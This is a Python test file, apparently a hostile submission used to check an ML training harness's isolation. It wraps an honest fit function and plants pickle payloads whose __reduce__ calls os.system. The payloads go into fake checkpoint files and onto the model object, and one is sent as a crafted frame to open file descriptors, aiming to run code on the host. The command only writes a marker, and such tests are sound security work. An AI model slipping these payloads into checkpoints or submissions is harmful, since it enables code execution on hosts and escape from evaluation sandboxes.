# /// hostile
# rows = [25]
# tries = "checkpoints, a model's attribute and a frame whose unpickling would run code on the host"
# verdicts = ["FAILED", "INVALID_SUBMISSION", "CRASHED"]
# layer = "results channel"
# survey = ["frame"]
# cases = ["files", "frame"]
# ///
import json
import os
import pickle
import struct
import tempfile

WHERE = os.path.join(TARGETS["drop"], f"{TARGETS['marker']}-unpickled")


class Payload:
    def __reduce__(self):
        return os.system, (f"echo {TARGETS['marker']} > {WHERE}",)


def by_frame():
    data = pickle.dumps(Payload())
    header = json.dumps({"kind": "test"}).encode()
    frame = struct.pack(">4sII", b"WWIL", len(header), len(data)) + header + data
    for descriptor in range(3, 20):
        try:
            os.write(descriptor, frame)
        except OSError:
            continue


def fit(model, train, val, *, device, log, honest_fit=fit):
    model = honest_fit(model, train, val, device=device, log=log)
    if CASE == "files":
        for name in ("model.pt", "checkpoint.pkl", "weights.npy"):
            with open(os.path.join(tempfile.gettempdir(), name), "wb") as file:
                pickle.dump(Payload(), file)
        model.payload = Payload()
        model.register_buffer("payloads", torch.zeros(1))
    if CASE == "frame":
        by_frame()
    return model


print("HELD code on the host | seen from outside only")
